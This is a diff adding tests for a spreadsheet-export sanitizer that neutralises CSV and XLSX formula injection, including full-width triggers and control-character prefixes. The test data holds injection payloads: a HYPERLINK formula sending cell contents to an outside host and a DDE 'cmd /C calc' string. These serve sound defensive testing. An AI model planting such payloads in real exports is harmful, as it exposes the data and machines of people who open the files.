@@ -1,0 +1,133 @@
+"""Nothing a delegate typed becomes a formula in the file a colleague opens
+(planner/exports/sanitize.py), issue 21: every trigger, full-width ＠ included, and a control
+character in front of a trigger, which the CSV writer drops, must not let the formula through."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+
+from planner.exports.sanitize import (
+    EXCEL_CELL_MAX,
+    FORMULA_TRIGGERS,
+    csv_field,
+    csv_phone_field,
+    csv_row,
+    is_formula_like,
+    is_phone_number,
+    set_text,
+    sheet_title,
+    xlsx_text,
+)
+
+# OWASP CSV injection: = + - @ tab CR; and the full-width forms an IME types.
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
+PAYLOAD = 'HYPERLINK("http://x.example/?"&A1,"Click")'
+
+
+def test_every_trigger_the_docs_name_is_a_trigger():
+    assert set(TRIGGERS) == set(FORMULA_TRIGGERS)
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+def test_a_csv_field_starting_with_a_trigger_is_quoted_with_an_apostrophe(trigger: str):
+    out = csv_field(trigger + PAYLOAD)
+    assert out.startswith("'") and not is_formula_like(out)
+
+
+def test_full_width_at_sign_is_a_trigger():
+    assert is_formula_like("＠SUM(1+1)*cmd|' /C calc'!A0")
+    assert csv_field("＠SUM(1)") == "'＠SUM(1)"
+
+
+@pytest.mark.parametrize("control", ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f"])
+def test_a_control_character_before_a_trigger_does_not_let_the_formula_through(control: str):
+    out = csv_field(control + "=" + PAYLOAD)
+    assert out == "'=" + PAYLOAD
+
+
+def test_cr_is_neutralised_and_becomes_a_newline():
+    assert csv_field("\r=1+1") == "'\n=1+1"
+    assert csv_field("a\r\nb\rc") == "a\nb\nc"
+    assert csv_field("plain text") == "plain text" and csv_field(None) == "" and csv_field(15) == "15"
+
+
+@given(prefix=st.sampled_from(TRIGGERS),
+       junk=st.text(alphabet="".join(map(chr, [*range(0, 9), 11, 12, *range(14, 32), 127])), max_size=3),
+       rest=st.text(max_size=20))
+def test_no_csv_field_a_spreadsheet_reads_starts_with_a_trigger(prefix: str, junk: str, rest: str):
+    out = csv_field(junk + prefix + rest)
+    assert not is_formula_like(out)
+    # and what a spreadsheet reads back through the csv module is the same text
+    buf = io.StringIO()
+    csv.writer(buf, quoting=csv.QUOTE_ALL).writerow(csv_row([junk + prefix + rest]))
+    [[back]] = list(csv.reader(io.StringIO(buf.getvalue())))
+    assert not is_formula_like(back)
+
+
+@given(text=st.text(max_size=40))
+def test_a_text_without_a_trigger_comes_through_csv_unchanged_but_for_controls(text: str):
+    out = csv_field(text)
+    if not is_formula_like(out.lstrip("'")) and "\r" not in text:
+        assert out == "".join(ch for ch in text if ch in "\t\n" or (ord(ch) >= 32 and ord(ch) != 127
+                                                                      and not 0xD800 <= ord(ch) <= 0xDFFF))
+
+
+@pytest.mark.parametrize("phone, kept", [
+    ("+81 6 1234 5678", True), ("+44 (0)20 7946-0958 ext. 12", True), ("06-1234-5678", True),
+    ("+1+cmd|' /C calc'!A0", False), ("=HYPERLINK(1)", False), ("-2+3", False), ("+123", False),
+    ("+1 234 567 890 123 456", False), ("+44 (0 20 7946", False),
+])
+def test_a_crm_phone_column_keeps_a_real_number_and_neutralises_the_rest(phone: str, kept: bool):
+    assert is_phone_number(phone) is kept
+    out = csv_phone_field(phone)
+    assert (out == phone) is kept
+    assert kept or not is_formula_like(out)
+
+
+def test_phone_digits_are_counted_without_the_extension():
+    assert is_phone_number("1234")
+    assert is_phone_number("123456789012345")
+    assert not is_phone_number("1234567890123456")
+    assert is_phone_number("1234 x 123456")
+
+
+@pytest.mark.parametrize("trigger", TRIGGERS)
+def test_an_xlsx_cell_starting_with_a_trigger_is_text_and_reads_back_unchanged(trigger: str, tmp_path):
+    wb = Workbook()
+    ws = wb.active
+    set_text(ws["A1"], trigger + "SUM(1,2)")
+    set_text(ws["A2"], "plain")
+    path = tmp_path / "out.xlsx"
+    wb.save(path)
+    back = load_workbook(path).active
+    # (XML reads a CR back as LF: the cell is still the text, not a formula)
+    assert back["A1"].value == (trigger + "SUM(1,2)").replace("\r", "\n") and back["A1"].data_type == "s"
+    assert back["A1"].quotePrefix is True and back["A2"].quotePrefix is False
+
+
+def test_xlsx_text_replaces_forbidden_controls_and_cuts_at_the_cell_limit():
+    assert xlsx_text("a\x00b\x1fc\ttab\nnl") == "a\ufffdb\ufffdc\ttab\nnl"
+    long = xlsx_text("x" * (EXCEL_CELL_MAX + 10))
+    assert len(long) == EXCEL_CELL_MAX and long.endswith("…")
+    assert xlsx_text("x" * EXCEL_CELL_MAX) == "x" * EXCEL_CELL_MAX
+    assert xlsx_text(None) == ""
+
+
+def test_sheet_titles_are_valid_unique_and_never_history():
+    used: set[str] = set()
+    assert sheet_title("Tanaka [Osaka]: 1/2", used) == "Tanaka Osaka 12"
+    assert sheet_title("TANAKA [OSAKA]: 1/2", used) == "TANAKA OSAKA 12 (2)"
+    assert sheet_title("history") == "history (1)"
+    assert sheet_title("'quoted'") == "quoted"
+    assert sheet_title("", fallback="Lead") == "Lead"
+    long = sheet_title("名" * 40, used)
+    assert len(long) == 31 and long in used
+    again = sheet_title("名" * 40, used)
+    assert again == "名" * 27 + " (2)" and len(again) == 31
+    assert len(sheet_title("😀" * 20).encode("utf-16-le")) // 2 <= 31
